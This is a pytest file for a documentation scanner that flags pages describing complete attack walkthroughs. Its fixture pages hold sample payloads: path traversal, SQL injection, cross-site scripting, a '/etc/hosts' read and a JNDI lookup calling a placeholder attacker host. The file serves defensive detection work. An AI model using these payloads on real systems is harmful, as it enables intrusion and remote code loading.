"""CAC403 at page level: a target or lab, an attack input and its outcome, whatever the
headings say (scanners/detectors/attack_walkthrough.py, through the reproduction-steps
detector). Hand-written pages; positives and near misses."""

from __future__ import annotations

import textwrap
import time

import pytest

from mkdocs_threatpub.scanners.base import Hit
from mkdocs_threatpub.scanners.detectors.reproduction_steps import DETECTOR, is_defensive_heading
from mkdocs_threatpub.scanners.document import document_from_text
from tests.detectors._network import translated


def scan(text: str) -> list[Hit]:
    return translated(list(DETECTOR.scan(document_from_text(textwrap.dedent(text).lstrip("\n")))))


def line_of(text: str, needle: str) -> int:
    lines = textwrap.dedent(text).lstrip("\n").split("\n")
    return next(i for i, line in enumerate(lines, start=1) if needle in line)


# --- positives: all three pieces ------------------------------------------------------------

# The proof is a screenshot right after the request; the section-level check (no textual
# proof) would only warn.
LAB_REQUEST_SCREENSHOT = """
    # Widget Server 2.1 file read

    ## Vulnerable environment

    ```
    docker compose up -d
    ```

    Then open `http://your-ip:8080`.

    ## Exploit

    ```
    GET /static/..%2f..%2fconfig HTTP/1.1
    Host: your-ip:8080
    ```

    ![](shot-1.png)
"""

# No reproduction heading at all: "原理与测试"; a tool run against the lab, then a success
# sentence in Chinese.
ZH_TOOL_SUCCESS = """
    # 示例服务远程命令执行

    ## 环境搭建

    ```
    docker-compose up -d
    ```

    ## 原理与测试

    使用如下命令：

    ```
    ./attack-tool --rhost target-ip --port 6699 --cmd whoami
    ```

    成功执行命令。
"""

# Headings say nothing; a URL to the placeholder host with crafted parameters given inline,
# then an English success sentence.
NO_HEADINGS = """
    # Notes on the gadget store

    Run the image with `docker run -d -p 8000:8000 gadget/store:1.0` first.

    Then visit `http://your-ip:8000/search?q=1%27%20or%20%271` in a browser.

    The query was executed and every row came back, which means the filter has been bypassed.
"""

# An input given inline under a reproduction heading, proven by the screenshot after it.
INLINE_STEP = """
    ## 漏洞环境

    ```
    docker compose up -d
    ```

    ## 漏洞复现

    在用户名处填写 `fetch_/etc/hosts` 并提交：

    ![](2.png)
"""


@pytest.mark.parametrize(
    ("page", "target", "attack", "outcome"),
    [
        (LAB_REQUEST_SCREENSHOT, "docker compose up", "GET /static", "![](shot-1.png)"),
        (ZH_TOOL_SUCCESS, "docker-compose up", "./attack-tool", "成功执行命令"),
        (NO_HEADINGS, "docker run", "search?q=", "has been bypassed"),
        (INLINE_STEP, "docker compose up", "fetch_", "![](2.png)"),
    ],
    ids=["lab-request-screenshot", "zh-tool-success", "no-headings", "inline-step"],
)
def test_walkthrough_holds(page: str, target: str, attack: str, outcome: str) -> None:
    (h,) = scan(page)
    assert h.strong
    assert (h.rule, h.detector) == ("CAC403", "reproduction-steps")
    assert "complete attack walkthrough" in h.what
    # each piece is located by its line
    for needle in (target, attack, outcome):
        assert f"(line {line_of(page, needle)})" in h.what, (needle, h.what)
    assert "第 " in h.what.zh  # type: ignore[attr-defined]
    # never the content
    for secret in ("..%2f", "attack-tool", "6699", "%27", "fetch_", "shot-1", "whoami"):
        assert secret not in h.what
        assert secret not in h.what.zh  # type: ignore[attr-defined]


def test_hit_sits_on_the_reproduction_heading_when_there_is_one() -> None:
    (h,) = scan(LAB_REQUEST_SCREENSHOT)
    assert h.line == line_of(LAB_REQUEST_SCREENSHOT, "## Exploit")
    (h,) = scan(NO_HEADINGS)  # no such heading: the attack input's line
    assert h.line == line_of(NO_HEADINGS, "search?q=")


def test_fingerprint_ignores_moving_the_walkthrough() -> None:
    (a,) = scan(LAB_REQUEST_SCREENSHOT)
    (b,) = scan("\n\nIntro.\n\n" + textwrap.dedent(LAB_REQUEST_SCREENSHOT))
    assert a.fingerprint == b.fingerprint


# The attack input is a payload of one of the shared families (_payloads.py), in prose.
FAMILY_PAYLOAD = """
    ## Lab setup

    ```
    docker compose up -d
    ```

    ## Notes

    Put ${jndi:ldap://attacker.invalid/a} into the search box of the lab at your-ip:8080.

    The lookup was triggered and the class was loaded successfully.
"""


def test_payload_families_are_attack_input() -> None:
    (h,) = scan(FAMILY_PAYLOAD)
    assert h.strong
    assert f"JNDI lookup injection (line {line_of(FAMILY_PAYLOAD, 'jndi')})" in h.what


# A payload under an "exploitation technique" heading, with no command, request or proof:
# an illustration, not even a warning.
PAYLOAD_EXAMPLE_ONLY = """
    ## Time-based exploitation technique

    ```text
    /item?id=10 AND IF(1=1, sleep(5), 0)
    ```

    The delay tells the tester the condition held.
"""


def test_a_payload_alone_under_an_exploitation_heading_is_quiet() -> None:
    assert scan(PAYLOAD_EXAMPLE_ONLY) == []


# --- near misses ------------------------------------------------------------------------------

# A prevention guide's one illustrative payload: no lab, no host to attack.
PREVENTION_EXAMPLE = """
    # Output encoding

    ## Example Attack

    ```html
    <script>alert(1)</script>
    ```

    ![](diagram.png)

    The script is executed in the browser if the value is not encoded.
"""

# A lab and an attack, but nothing shows it worked.
NO_OUTCOME = """
    ## Environment setup

    ```
    docker compose up -d
    ```

    ## Notes

    ```
    curl "http://localhost:8080/items?id=2"
    ```

    The handler reads the parameter without checking it.
"""

# A lab and screenshots, but the steps are clicks: no concrete input.
NO_INPUT = """
    ## Vulnerable environment

    ```
    docker compose up -d
    ```

    ## Walkthrough

    Open the admin page and click the export button.

    ![](1.png)

    The export was successfully created.
"""

# The proof comes before the attack input, and the screenshot after it is under a new heading.
OUTCOME_BEFORE_ATTACK = """
    ## Environment setup

    ```
    docker compose up -d
    ```

    The service started successfully.

    ![](1.png)

    ## Notes

    ```
    curl "http://your-ip:8080/items?id=2"
    ```

    ## Background

    ![](2.png)
"""

# The request is in a detection section, and the lab's setup curls its own front page.
DEFENSIVE_SECTIONS = """
    ## 环境搭建

    ```
    docker compose up -d
    curl http://your-ip:8080/
    ```

    启动成功。

    ## Detection

    ```
    curl "http://localhost:8080/health?verbose=1"
    ```

    The command was executed and the service answered.

    ![](health.png)
"""


@pytest.mark.parametrize(
    "page",
    [PREVENTION_EXAMPLE, NO_OUTCOME, NO_INPUT, OUTCOME_BEFORE_ATTACK, DEFENSIVE_SECTIONS],
    ids=["prevention-example", "no-outcome", "no-input", "outcome-before", "defensive"],
)
def test_near_misses_are_not_held(page: str) -> None:
    assert not [h for h in scan(page) if h.strong]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Detecting exploitation", True),
        ("Mitigation", True),
        ("修复方案", True),
        ("漏洞利用情况", True),
        ("Exploit", False),
        ("漏洞复现", False),
    ],
)
def test_defensive_headings(text: str, expected: bool) -> None:
    assert is_defensive_heading(text) is expected


@pytest.mark.parametrize(
    "filler",
    [
        "your-ip " * 40_000,
        "http://127.0.0.1:1/" * 20_000,
        "![](" * 50_000,
        "成功" * 50_000,
        "```\ndocker compose up\n```\n\n" * 5_000,
    ],
    ids=["placeholders", "urls", "images", "success", "setups"],
)
def test_pathological_input_is_fast(filler: str) -> None:
    page = "## Vulnerable environment\n\n```\ndocker compose up -d\n```\n\n" + filler
    started = time.perf_counter()
    scan(page)
    assert time.perf_counter() - started < 2.0
